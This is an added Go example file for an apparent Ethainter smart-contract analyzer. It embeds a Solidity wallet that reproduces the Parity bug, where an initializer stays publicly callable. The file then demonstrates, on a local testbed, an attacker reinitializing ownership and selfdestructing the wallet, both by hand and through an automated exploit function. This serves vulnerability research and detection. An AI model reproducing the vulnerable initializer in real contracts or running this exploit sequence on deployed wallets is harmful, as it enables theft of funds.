@@ -1,0 +1,99 @@
+// Parity: a wallet in the shape of the Parity hack the paper cites — the
+// initialization routine meant to run once at construction is left publicly
+// callable, letting anyone reinitialize the owner and then drain or destroy
+// the wallet. Ethainter flags the tainted owner variable and the reachable
+// selfdestruct; the example exploits both.
+//
+//	go run ./examples/parity
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"ethainter"
+)
+
+const walletSource = `
+contract Wallet {
+    address walletOwner;
+    uint256 dailyLimit;
+    bool initialized;
+
+    // Intended to be called once by the deployment code; actually callable
+    // by anyone, forever — the Parity wallet bug.
+    function initWallet(address ownerIn, uint256 limit) public {
+        walletOwner = ownerIn;
+        dailyLimit = limit;
+        initialized = true;
+    }
+    function execute(address to, uint256 amount) public {
+        require(msg.sender == walletOwner);
+        require(amount <= dailyLimit);
+        send(to, amount);
+    }
+    function kill() public {
+        require(msg.sender == walletOwner);
+        selfdestruct(walletOwner);
+    }
+}`
+
+func main() {
+	compiled, err := ethainter.Compile(walletSource)
+	if err != nil {
+		log.Fatal(err)
+	}
+	report, err := ethainter.AnalyzeBytecode(compiled.Runtime, ethainter.DefaultConfig())
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("=== analysis ===")
+	for _, w := range report.Warnings {
+		fmt.Printf("[%s] pc=%d — %s\n", w.Kind, w.PC, w.Message)
+	}
+	if !report.Has(ethainter.TaintedOwner) {
+		log.Fatal("expected the tainted owner variable to be flagged")
+	}
+
+	// Set the scene: the wallet is deployed and initialized by its rightful
+	// owner, then loaded with funds.
+	tb := ethainter.NewTestbed()
+	wallet, err := tb.DeployContract(compiled)
+	if err != nil {
+		log.Fatal(err)
+	}
+	legitimate := tb.NewAccount(ethainter.NewWei(10_000))
+	if _, err := tb.Call(legitimate, wallet, compiled, "initWallet",
+		ethainter.NewWei(0), legitimate.Word(), ethainter.NewWei(500)); err != nil {
+		log.Fatal(err)
+	}
+	tb.Fund(wallet, ethainter.NewWei(280_000_000)) // the paper's $280M, in spirit
+
+	// The attack: reinitialize, then drain via execute and destroy via kill.
+	attacker := tb.NewAccount(ethainter.NewWei(100))
+	fmt.Println("\n=== attack ===")
+	if _, err := tb.Call(attacker, wallet, compiled, "execute",
+		ethainter.NewWei(0), attacker.Word(), ethainter.NewWei(1)); err != nil {
+		fmt.Println("execute before reinit: REVERTED (owner guard holds)")
+	}
+	if _, err := tb.Call(attacker, wallet, compiled, "initWallet",
+		ethainter.NewWei(0), attacker.Word(), ethainter.NewWei(280_000_000)); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("initWallet(attacker, ...): ok — ownership reinitialized")
+	if _, err := tb.Call(attacker, wallet, compiled, "kill", ethainter.NewWei(0)); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("kill(): ok — wallet destroyed: %v\n", tb.IsDestroyed(wallet))
+	fmt.Printf("attacker balance: %s wei\n", tb.Balance(attacker).Dec())
+
+	// And the automated version straight from the analysis output.
+	fresh := ethainter.NewTestbed()
+	w2, err := fresh.DeployContract(compiled)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fresh.Fund(w2, ethainter.NewWei(280_000_000))
+	res := ethainter.Exploit(fresh, w2, report)
+	fmt.Printf("\nEthainter-Kill: destroyed=%v profit=%s wei\n", res.Destroyed, res.Profit.Dec())
+}
